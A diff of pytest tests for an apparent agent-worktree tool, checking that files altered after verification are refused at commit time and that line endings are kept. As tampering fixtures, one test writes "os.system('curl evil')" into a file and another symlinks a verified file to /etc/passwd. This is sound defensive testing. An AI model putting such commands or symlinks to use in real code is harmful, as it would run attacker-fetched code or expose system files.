@@ -12,7 +12,8 @@ from pathlib import Path
 import pytest
 from gitrepos import git, new_id, repo, rev, root, tree_digest
 
-from fleet.errors import UnmergedWork, WorktreeForeign, WorktreeOffBranch
+from fleet.errors import UnmergedWork, WorkChangedSinceVerified, WorktreeForeign, WorktreeOffBranch
+from fleet.work import snapshot as snap
 from fleet.work import worktreeadmin as adm
 from fleet.work import worktrees as wt
 
@@ -127,3 +128,65 @@ def test_listing_and_pruning_read_the_worktree_git_keeps_not_the_one_its_link_na
         adm.prune(repo, root, "main", agents=["ada"])
     assert "notes.txt" in exc.value.message
     assert "unverified.txt" not in exc.value.message
+
+
+def _verified_states(made: Path, before: snap.Snapshot) -> dict[str, str | None]:
+    after = snap.snapshot(made, since=before)
+    return {p: after.files.get(p) for p in snap.changed_files(before, after)}
+
+
+def test_a_file_rewritten_after_verification_is_not_committed(repo: Path, root: Path) -> None:
+    made = Path(wt.ensure_worktree(repo, root, "ada").path)
+    aid = new_id()
+    wt.prepare_branch(made, aid, "main", repo=repo)
+    before = snap.snapshot(made)
+    (made / "app.py").write_text("verified = True\n")
+    (made / "new.txt").write_text("new\n")
+    states = _verified_states(made, before)
+    (made / "app.py").write_text("import os; os.system('curl evil')\n")  # a check's conftest, after the snapshot
+    with pytest.raises(WorkChangedSinceVerified) as exc:
+        wt.commit_verified(made, aid, "s", "ada", repo=repo, paths=sorted(states), expected=states)
+    assert exc.value.data["files"] == ["app.py"]
+    assert rev(repo, f"fleet/{aid}") == rev(repo, "main")
+
+
+@pytest.mark.parametrize("tamper", ["chmod", "symlink", "delete", "recreate"])
+def test_any_other_change_to_a_verified_file_refuses_the_commit(repo: Path, root: Path, tamper: str) -> None:
+    made = Path(wt.ensure_worktree(repo, root, "ada").path)
+    aid = new_id()
+    wt.prepare_branch(made, aid, "main", repo=repo)
+    before = snap.snapshot(made)
+    (made / "app.py").write_text("verified = True\n")
+    if tamper == "recreate":
+        (made / "README.md").unlink()
+    states = _verified_states(made, before)
+    if tamper == "chmod":
+        (made / "app.py").chmod(0o755)
+    elif tamper == "symlink":
+        (made / "app.py").unlink()
+        (made / "app.py").symlink_to("/etc/passwd")
+    elif tamper == "delete":
+        (made / "app.py").unlink()
+    else:
+        (made / "README.md").write_text("back again\n")
+    with pytest.raises(WorkChangedSinceVerified):
+        wt.commit_verified(made, aid, "s", "ada", repo=repo, paths=sorted(states), expected=states)
+    assert rev(repo, f"fleet/{aid}") == rev(repo, "main")
+
+
+def test_verified_files_are_committed_with_line_endings_a_checkout_would_write(repo: Path, root: Path) -> None:
+    made = Path(wt.ensure_worktree(repo, root, "ada").path)
+    aid = new_id()
+    wt.prepare_branch(made, aid, "main", repo=repo)
+    before = snap.snapshot(made)
+    (made / ".gitattributes").write_text("*.txt text eol=crlf\n")
+    (made / "dos.txt").write_bytes(b"one\r\ntwo\r\n")
+    (made / "link").symlink_to("app.py")
+    (made / "run.sh").write_text("#!/bin/sh\n")
+    (made / "run.sh").chmod(0o755)
+    (made / "README.md").unlink()
+    states = _verified_states(made, before)
+    tip = wt.commit_verified(made, aid, "s", "ada", repo=repo, paths=sorted(states), expected=states)
+    assert git(repo, "show", f"{tip}:dos.txt") == "one\ntwo\n"  # git stored it normalised
+    assert set(git(repo, "ls-tree", "--name-only", tip).split()) == {".gitattributes", "app.py", "dos.txt", "link",
+                                                                      "run.sh"}
